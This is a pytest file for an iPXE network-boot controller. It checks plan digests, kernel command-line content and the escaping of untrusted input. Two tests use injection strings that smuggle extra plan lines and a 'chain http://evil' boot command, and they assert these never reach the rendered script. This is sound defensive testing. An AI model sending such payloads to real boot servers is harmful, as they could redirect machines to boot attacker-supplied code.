"""The plan's digest, and texts that must not become lines of it."""

import hashlib

import pytest

from muster.boot import ipxe, plan
from muster.boot.content import content
from muster.boot.decide import Run, Wait, decide
from muster.boot.facts import loader_facts
from muster.boot.plan import BootKey, OverlayData
from muster.boot.roots import Asker, Supplies, equipped
from muster.controller.answer_boot import answer_boot
from muster.model.documents import parse
from muster.model.errors import RequestError
from muster.model.facts import MachineFacts
from muster.model.objects import Blob
from muster.model.world import World
from tests.cluster import (
    KERNEL,
    MAC,
    NETWORK,
    PARTS,
    PROFILE,
    SERVER,
    SUPPLIES,
    UUID,
    node,
    plan_values,
    published,
    world_of,
)

WORLD = published(world_of({**PROFILE, "image": None}, NETWORK, node("n1", image=None)))
RUNS = world_of({**PROFILE, "image": "debian"}, based_on=WORLD)
N1 = MachineFacts(UUID["n1"], macs=(MAC["n1"],))
SEGMENT = Blob(sha256="e" * 64, size=5)


def render(
    overlay: str = "f",
    token: str = "t",
    kernel: str = KERNEL,
    now: float = 1.0,
    world: World = RUNS,
    supplies: Supplies = SUPPLIES,
) -> dict[str, str]:
    decision = equipped(decide(world, N1), supplies)
    key, asker = BootKey("0" * 16, token), Asker("a" * 64, kernel, SERVER)
    return plan_values(plan.render(decision, OverlayData(overlay * 64, 1), key, asker, supplies, now))


def test_the_digest_changes_with_anything_but_token_and_clock() -> None:
    first = render()
    assert first["action"] == "run"
    assert render(token="other", now=99.0)["digest"] == first["digest"]
    changed = world_of(node("n1", upper_size="1g"), based_on=RUNS)
    others = [render(overlay="a"), render(kernel="6.2"), render(world=changed), render(world=WORLD)]
    assert len({first["digest"], *(other["digest"] for other in others)}) == 5
    assert [other["action"] for other in others] == ["run", "reboot", "run", "wait"]


def test_the_digest_changes_with_all_that_shapes_the_root() -> None:
    settings: list[dict[str, object]] = [
        {},
        {"root": "tmpfs"},
        {"root": "nfs"},
        {"upper_size": "1g"},
        {"tmp": {"on": "tmpfs"}},
        {"tmp": {"on": "tmpfs", "size": "1g"}},
        {"var": {"on": "tmpfs"}},
        {"var": {"on": "disk"}},
        {"disk": {"scratch": "scratch"}},
        {"disk": {"scratch": "scratch", "path": "/data"}},
        {"disk": {"swap": "swap"}},
        {"disk": {"make": {}}},
        {"disk": {"make": {"disk": "serial:1"}}},
        {"disk": {"make": {"swap_size": "1g"}}},
    ]
    plans = [render(world=world_of(node("n1", **each), based_on=RUNS)) for each in settings]
    assert {plan["action"] for plan in plans} == {"run"}
    assert len({plan["digest"] for plan in plans}) == len(settings)


def test_the_digest_changes_with_what_the_version_or_the_controller_has() -> None:
    base = published(world_of(PROFILE | {"image": None}, NETWORK, node("n1", image=None)), parts=(*PARTS, "acls"))
    acls = world_of({**PROFILE, "image": "debian"}, based_on=base)
    other = Supplies(SUPPLIES.nfs, {**SUPPLIES.kits, "verity": SEGMENT})
    found = [render(), render(world=acls), render(supplies=other)]
    assert [plan["action"] for plan in found] == ["run"] * 3
    assert len({plan["digest"] for plan in found}) == 3


def test_the_content_of_what_the_loader_gave_is_on_the_command_line() -> None:
    version = decided().version
    words = ipxe.command_line(decide(RUNS, N1), None, SERVER, SEGMENT).split()
    parts = (version.kernel, version.modules, SEGMENT)
    expected = hashlib.sha256("\n".join(part.sha256 for part in parts).encode()).hexdigest()[:16]
    assert f"muster.content={expected}" in words
    assert f"muster.content={content(version, version.root)}" not in words
    with pytest.raises(RequestError, match=r"sets the kernel argument muster\.content itself"):
        parse(node("n1", kernel_arguments=["muster.content=0123456789abcdef"]))


def test_a_reason_is_one_line() -> None:
    text = plan.render(
        Wait(None, "broken\naction\trun\nurl.plan\thttp://evil"),
        None,
        BootKey("0" * 16, "t"),
        Asker("a" * 64, "", SERVER),
        SUPPLIES,
        0,
    )
    assert plan_values(text)["action"] == "wait"
    assert plan_values(text)["reason"] == "broken action run url.plan http://evil"
    assert text.count("url.plan\t") == 1


def test_the_overlay_is_asked_for_by_its_hash() -> None:
    assert render(overlay="a")["url.overlay"].endswith("/overlay?sha256=" + "a" * 64)


def test_texts_of_firmware_and_people_never_reach_the_script() -> None:
    nasty = "${net0/mac}\n#!ipxe\nchain http://evil || && `x`"
    for query in (
        {"product": nasty, "mac": MAC["n1"]},
        {"uuid": nasty},
        {"mac": nasty},
        {"ip": nasty, "buildarch": nasty},
    ):
        answer = answer_boot(RUNS, query, SERVER, SEGMENT)
        assert "$" not in answer and "evil" not in answer and answer.count("#!ipxe") == 1
    waiting = ipxe.render(Wait(None, nasty), loader_facts({}), SERVER, SEGMENT)
    assert "$" not in waiting and waiting.count("#!ipxe") == 1 and "|" not in waiting.splitlines()[1]


def test_the_architecture_of_a_bios_loader_is_that_of_the_machine() -> None:
    for name in ("i386", "x86_64", ""):
        assert f"node n1 boots {decided().version.name}" in answer_boot(
            RUNS, {"mac": MAC["n1"], "buildarch": name}, SERVER, SEGMENT
        )
    other = answer_boot(RUNS, {"mac": MAC["n1"], "buildarch": "arm64"}, SERVER, SEGMENT)
    assert "node n1 is aarch64 but" in other and "kernel http" not in other


def decided() -> Run:
    decision = decide(RUNS, N1)
    assert isinstance(decision, Run)
    return decision


def test_discovery_boots_the_image_that_the_network_names() -> None:
    two = published(RUNS, image="aaa", kernel="6.6.1")
    named = world_of({**NETWORK, "discovery_image": "debian"}, based_on=two)
    unknown = MachineFacts(macs=("52:54:00:00:00:99",))
    first, second = decide(two, unknown), decide(named, unknown)
    assert first.version is not None and first.version.image == "aaa"
    assert second.version is not None and second.version.image == "debian"
